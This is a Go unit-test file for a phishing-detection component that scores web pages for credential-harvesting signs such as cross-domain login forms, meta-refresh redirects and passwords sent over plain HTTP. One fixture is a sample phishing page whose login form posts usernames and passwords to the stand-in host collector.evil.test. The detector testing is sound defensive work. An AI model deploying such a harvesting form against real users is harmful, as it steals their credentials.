package provider_test

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/raysh454/trygglink/internal/provider"
	"github.com/raysh454/trygglink/internal/testutil"
	"github.com/raysh454/trygglink/internal/webclient"
)

const phishPage = `<html><head>
<meta http-equiv="Refresh" content="5; URL='https://collector.evil.test/next'">
</head><body>
<form action="https://collector.evil.test/post" method="post">
  <input type="text" name="user">
  <input type="PASSWORD" name="pass">
</form>
</body></html>`

func TestPageContent_InspectFindsHarvestingPatterns(t *testing.T) {
	t.Parallel()
	p := provider.NewPageContent(provider.PageContentConfig{}, nil)
	findings, err := p.Inspect("https://login.bank.test/signin", []byte(phishPage))
	require.NoError(t, err)
	require.Len(t, findings, 2)
	assert.Equal(t, "Login form submits to a different domain", findings[0].Description)
	assert.Equal(t, 25, findings[0].Points)
	assert.Equal(t, "Page redirects to a different domain via meta refresh", findings[1].Description)
}

func TestPageContent_InspectRelativeActionOverHTTP(t *testing.T) {
	t.Parallel()
	page := `<form action="/login"><input type="password" name="p"></form>`
	p := provider.NewPageContent(provider.PageContentConfig{}, nil)
	findings, err := p.Inspect("http://shop.test/account", []byte(page))
	require.NoError(t, err)
	require.Len(t, findings, 1)
	assert.Equal(t, "Password field submitted over plain HTTP", findings[0].Description)
	assert.Equal(t, 15, findings[0].Points)
}

func TestPageContent_InspectIgnoresFormsWithoutPassword(t *testing.T) {
	t.Parallel()
	page := `<form action="https://search.other.test/"><input type="text" name="q"></form>`
	p := provider.NewPageContent(provider.PageContentConfig{}, nil)
	findings, err := p.Inspect("https://example.com/", []byte(page))
	require.NoError(t, err)
	assert.Empty(t, findings)
}

func TestPageContent_CheckSumsFindings(t *testing.T) {
	t.Parallel()
	wc := &testutil.DummyWebClient{Handler: func(req *webclient.Request) (*webclient.Response, error) {
		return &webclient.Response{Request: req, StatusCode: 200, Body: []byte(phishPage)}, nil
	}}
	p := provider.NewPageContent(provider.PageContentConfig{Render: true}, wc)
	sig, err := p.Check(context.Background(), provider.Input{URL: "https://login.bank.test/signin"})
	require.NoError(t, err)
	assert.True(t, sig.Positive)
	assert.Equal(t, 35, sig.Contribution)
	require.Len(t, wc.Requests, 1)
	assert.Equal(t, "true", wc.Requests[0].Options["render"])
}

func TestPageContent_CheckCleanPage(t *testing.T) {
	t.Parallel()
	wc := &testutil.DummyWebClient{Handler: func(req *webclient.Request) (*webclient.Response, error) {
		return &webclient.Response{Request: req, StatusCode: 200, Body: []byte(`<p>hello</p>`)}, nil
	}}
	p := provider.NewPageContent(provider.PageContentConfig{}, wc)
	sig, err := p.Check(context.Background(), provider.Input{URL: "https://example.com"})
	require.NoError(t, err)
	assert.False(t, sig.Positive)
	assert.Equal(t, "No suspicious page content", sig.Detail)
}

func TestPageContent_CheckRejectsErrorStatus(t *testing.T) {
	t.Parallel()
	wc := &testutil.DummyWebClient{Handler: func(req *webclient.Request) (*webclient.Response, error) {
		return &webclient.Response{Request: req, StatusCode: 503}, nil
	}}
	p := provider.NewPageContent(provider.PageContentConfig{}, wc)
	_, err := p.Check(context.Background(), provider.Input{URL: "https://example.com"})
	assert.ErrorIs(t, err, provider.ErrUnexpectedStatus)
}
